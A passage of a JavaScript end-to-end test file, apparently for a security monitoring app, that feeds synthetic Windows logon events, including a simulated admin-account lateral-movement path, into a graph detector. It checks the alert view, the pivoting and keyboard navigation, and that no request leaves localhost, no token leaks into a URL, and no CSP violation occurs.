  assert.equal(await page.locator('[data-testid^="incident-set-"]').count(), 0);
  assert.deepEqual(browser.requests.slice(before).filter((u) => u.includes('/v1/audit')), [], 'no audit request with a read token');
});

/** Eight days of Windows logons of a small company, then a stolen admin account's path. */
function companyLogons() {
  const at = (secs) => new Date(Date.UTC(2026, 4, 4) + secs * 1000).toISOString();
  let record = 500_000;
  const logon = (secs, acct, src, dst, type) => ({
    Event: {
      System: {
        EventID: 4624, Channel: 'Security', Computer: `${dst}.corp.local`, EventRecordID: ++record,
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Security-Auditing' } },
        TimeCreated: { '#attributes': { SystemTime: at(secs) } },
      },
      EventData: { TargetUserName: acct, LogonType: type, WorkstationName: src, AuthenticationPackageName: 'Kerberos', IpAddress: '10.0.0.1' },
    },
  });
  const privileged = (secs, acct, host) => ({
    Event: {
      System: {
        EventID: 4672, Channel: 'Security', Computer: `${host}.corp.local`, EventRecordID: ++record,
        TimeCreated: { '#attributes': { SystemTime: at(secs) } },
      },
      EventData: { SubjectUserName: acct, PrivilegeList: 'SeDebugPrivilege' },
    },
  });
  const events = [];
  for (let day = 0; day < 8; day += 1) {
    const t0 = day * 86_400 + 8 * 3600;
    for (let u = 1; u <= 5; u += 1) {
      events.push(logon(t0 + u, `u${u}`, `WS-${u}`, `WS-${u}`, 2));
      events.push(logon(t0 + 600 + u, `u${u}`, `WS-${u}`, 'SRV-1', 3));
    }
    for (let a = 1; a <= 3; a += 1) {
      events.push(logon(t0 + 1800 + a * 60, `adm${a}`, `WS-${a}`, 'JUMP', 10));
      events.push(privileged(t0 + 1800 + a * 60, `adm${a}`, 'JUMP'));
    }
  }
  const t = 8 * 86_400 + 10 * 3600;
  events.push(logon(t, 'adm1', 'WS-4', 'WS-5', 3));
  events.push(logon(t + 1800, 'adm1', 'WS-5', 'SRV-1', 3));
  events.push(logon(t + 3600, 'adm1', 'SRV-1', 'SRV-2', 3));
  return events;
}

test('a graph finding draws its path with its steps, and any entity opens its neighbourhood', async () => {
  const events = companyLogons();
  for (let i = 0; i < events.length; i += 200) {
    await api('/v1/detect/realtime', { method: 'POST', body: { events: events.slice(i, i + 200) } });
  }
  const listed = (await api('/v1/alerts?limit=100&sort=score')).alerts.filter((a) => a.detector === 'graph');
  assert.ok(listed.length > 0, 'the path is stored as a graph alert');
  const top = listed[0];
  await go(`#/alerts/${top.id}`);
  await page.locator(tid('graph-card')).waitFor();
  assert.equal(await page.locator(tid('detector')).getAttribute('data-kind'), 'graph');
  // The hosts of the path, left to right in the order the steps reach them (the stored
  // alert follows the path as it grows).
  const nodes = await page.locator(tid('graph-node')).evaluateAll((els) => els.map((e) => e.dataset.entity));
  assert.deepEqual(nodes.slice(0, 4), ['WS-4', 'WS-5', 'SRV-1', 'SRV-2']);
  assert.ok(await page.locator(tid('graph-hop')).count() >= 3, 'an arrow per hop');
  const steps = await page.locator(tid('graph-step')).evaluateAll((els) => els.map((e) => e.dataset.kind));
  assert.ok(steps.filter((k) => k === 'logon').length >= 3, `steps: ${steps}`);
  // Pivot: the middle host's neighbourhood, from the tenant's graph.
  await page.locator(`${tid('graph-node')}[data-entity="WS-5"]`).click();
  await page.locator(tid('graph-pivot-title')).waitFor();
  assert.match(await page.locator(tid('graph-pivot-title')).textContent(), /host:WS-5/);
  const edges = await page.locator(`${tid('graph-neighbours')} ${tid('graph-edge')}`).allTextContents();
  assert.ok(edges.some((e) => /WS-4/.test(e) && /remote logon/i.test(e)), edges.join('\n'));
  // By keyboard too: an account from the steps table.
  await page.locator(`${tid('graph-steps')} button`, { hasText: 'adm1' }).first().focus();
  await page.keyboard.press('Enter');
  await page.locator(tid('graph-pivot-title'), { hasText: 'account:adm1' }).waitFor();
  await shot('alert-detail-graph');
});

test('no request left 127.0.0.1, no token in a URL, no CSP violation or console error', async () => {
  const { requests, blocked, cspViolations, consoleProblems } = browser;
  assert.ok(requests.length > 20, 'requests were recorded');
  assert.deepEqual(blocked, [], 'requests to other hosts');
  const foreign = requests.filter((u) => hostOf(u) !== '127.0.0.1');
  assert.deepEqual(foreign, []);
  for (const t of [token, readToken]) {
    const leaks = requests.filter((u) => u.includes(t) || u.includes(encodeURIComponent(t)));
    assert.deepEqual(leaks, [], 'a token in a request URL');
  }
  assert.deepEqual(cspViolations, [], 'CSP violations');
  assert.deepEqual(consoleProblems, [], 'console errors');
});
